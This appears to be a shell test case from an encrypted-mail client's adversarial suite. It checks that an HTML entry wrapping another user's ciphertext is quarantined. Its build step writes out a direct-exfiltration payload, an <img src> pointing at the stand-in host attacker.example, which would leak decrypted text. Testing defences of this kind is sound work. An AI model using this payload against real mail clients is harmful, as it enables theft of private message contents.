# Decryption oracle with direct exfiltration: erin signs and encrypts an
# entry whose content root is one text/html part: <img
# src="http://attacker.example/? , bob's armored ciphertext, ">.
#
# Expected: quarantined as partial; bob's words show nowhere.
case_class=oracle
case_title="insider HTML entry wrapping another client's ciphertext in <img src>"
case_expect=quarantine:partial
case_msgid=oracle.11@client.example
case_build() {
	adv_bob_captured &&
	{ printf 'Content-Type: text/html; charset=us-ascii\r\n\r\n<html><body><img src="http://attacker.example/?\r\n'
	  crlf <bob.asc; printf '"></body></html>\r\n'; } >inner &&
	adv_se erin inner c.asc &&
	adv_wrap "erin@$D" "Picture" "$case_msgid" c.asc
}
